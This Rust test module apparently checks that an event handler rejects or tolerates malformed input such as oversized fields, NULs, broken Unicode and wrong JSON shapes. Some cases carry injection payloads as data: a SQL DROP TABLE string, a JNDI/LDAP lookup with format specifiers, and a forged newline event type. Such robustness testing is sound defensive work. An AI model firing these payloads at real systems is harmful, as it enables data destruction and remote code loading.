//! Odd texts, and bodies that are no events.

use super::{Case, End, MALFORMED, case, user};

pub(super) fn texts() -> Vec<Case> {
    let long = "x".repeat(400_000);
    let names = |name: &str| format!(r#""first_name":"{name}""#);
    vec![
        case(
            "a name of 400 KB",
            user("text_1", &names(&long)),
            End::Created,
        ),
        case(
            "an id of 400 KB",
            user(&long, "\"x\":1").replace(&format!("{long}@"), "text_2@"),
            End::Dead("text_too_long"),
        ),
        case(
            "an address of 400 KB",
            user("text_3", "\"x\":1").replace("text_3@", &format!("{long}@")),
            End::Dead("text_too_long"),
        ),
        case("an empty id", user("text_4", r#""id":"""#), MALFORMED),
        case(
            "an empty address",
            user("text_5", "\"x\":1").replace("text_5@a.example", ""),
            MALFORMED,
        ),
        case(
            "an escaped NUL in a name",
            user("text_6", &names(r"Ma\u0000ren")),
            End::Dead("invalid_text"),
        ),
        case(
            "an escaped NUL in the id",
            user("text_7", r#""id":"text\u00007""#),
            End::Dead("invalid_text"),
        ),
        case(
            "an escaped NUL where nobody looks",
            user("text_8", r#""x":"\u0000""#),
            End::Created,
        ),
        case(
            "a bare NUL in a name",
            user("text_9", &names("Ma\0ren")),
            MALFORMED,
        ),
        case(
            "a bare newline in a name",
            user("text_10", &names("Ma\nren")),
            MALFORMED,
        ),
        case(
            "half a surrogate in a name",
            user("text_11", &names(r"\ud800")),
            MALFORMED,
        ),
        case(
            "surrogates in the wrong order",
            user("text_12", &names(r"\udc00\ud800")),
            MALFORMED,
        ),
        case(
            "half a surrogate where nobody looks",
            user("text_13", r#""x":"\ud800""#),
            End::Created,
        ),
        case(
            "half a surrogate for a key",
            user("text_14", r#""\ud800":1"#),
            MALFORMED,
        ),
        case(
            "an escape that is none",
            user("text_15", &names(r"\x41")),
            MALFORMED,
        ),
        case(
            "SQL",
            user(
                "'; DROP TABLE users; --",
                &names("Robert'); DROP TABLE users;--"),
            ),
            End::Created,
        ),
        case(
            "a format",
            user("text_17", &names("{} {0} %s %n ${jndi:ldap://a.example}")),
            End::Created,
        ),
        case(
            "every direction",
            user(
                "text_18",
                &names("\u{202e}\u{2066}\u{feff}\u{200d}\u{e0001}"),
            ),
            End::Created,
        ),
        case(
            "a mountain of combining marks",
            user("text_19", &names(&format!("Z{}", "\u{300}".repeat(50_000)))),
            End::Created,
        ),
        case(
            "the last character",
            user("text_20", &names("\u{10ffff}\u{fffe}\u{ffff}")),
            End::Created,
        ),
        case(
            "bytes that are no text, in a name",
            spoiled(b"\xff\xfe"),
            MALFORMED,
        ),
        case(
            "an overlong slash in a name",
            spoiled(b"\xc0\xaf"),
            MALFORMED,
        ),
        case(
            "a surrogate in bytes in a name",
            spoiled(b"\xed\xa0\x80"),
            MALFORMED,
        ),
        case("a character cut short", spoiled(b"\xf0\x9f\x98"), MALFORMED),
    ]
}

fn spoiled(bytes: &[u8]) -> Vec<u8> {
    let body = user("spoiled", r#""first_name":"@@@""#).into_bytes();
    let at = body.windows(3).position(|window| window == b"@@@").unwrap();
    [&body[..at], bytes, &body[at + 3..]].concat()
}

pub(super) fn no_events() -> Vec<Case> {
    let fine = user("none_1", "\"x\":1");
    vec![
        case("nothing", "", MALFORMED),
        case("512 KiB of spaces", " ".repeat(512 * 1024), MALFORMED),
        case("null", "null", MALFORMED),
        case("a number", "1e999999", MALFORMED),
        case("an array of an event", format!("[{fine}]"), MALFORMED),
        case("an object of nothing", "{}", MALFORMED),
        case(
            "a mark before the event",
            format!("\u{feff}{fine}"),
            MALFORMED,
        ),
        case("two events", fine.repeat(2), MALFORMED),
        case("an event and a NUL", format!("{fine}\0"), MALFORMED),
        case(
            "an event cut short",
            fine[..fine.len() - 1].to_owned(),
            MALFORMED,
        ),
        case(
            "a comma too many",
            fine.replace("}}", ",}}").replace(r#"1},"#, r#"1,},"#),
            MALFORMED,
        ),
        case("a comment", format!("/* */{fine}"), MALFORMED),
        case("single quotes", fine.replace('"', "'"), MALFORMED),
        case(
            "UTF-16",
            fine.encode_utf16()
                .flat_map(|unit| [unit.to_le_bytes()[0], 0])
                .collect::<Vec<_>>(),
            MALFORMED,
        ),
        case("NULs", "\0".repeat(1000), MALFORMED),
        case(
            "XML",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"aaaa\">]><x>&a;</x>",
            MALFORMED,
        ),
        case("a form", "type=user.created&data=x", MALFORMED),
        case("a number for a type", r#"{"type":7,"data":{}}"#, MALFORMED),
        case("an empty type", r#"{"type":"","data":{}}"#, End::Ignored),
        case(
            "a type of 100,000 letters",
            format!(r#"{{"type":"{}","data":{{}}}}"#, "t".repeat(100_000)),
            End::Ignored,
        ),
        case(
            "a type that binds everything",
            r##"{"type":"#","data":{}}"##,
            End::Ignored,
        ),
        case(
            "a type in two lines",
            r#"{"type":"user.created\nforged","data":{}}"#,
            End::Ignored,
        ),
        case(
            "a type with a NUL",
            r#"{"type":"user.created\u0000","data":{}}"#,
            End::Ignored,
        ),
        case(
            "a type in capitals",
            fine.replace("user.created", "USER.CREATED"),
            End::Ignored,
        ),
        case("no data", r#"{"type":"user.created"}"#, MALFORMED),
        case(
            "null for data",
            r#"{"type":"user.created","data":null}"#,
            MALFORMED,
        ),
        case(
            "a user of nothing",
            r#"{"type":"user.created","data":{}}"#,
            MALFORMED,
        ),
    ]
}
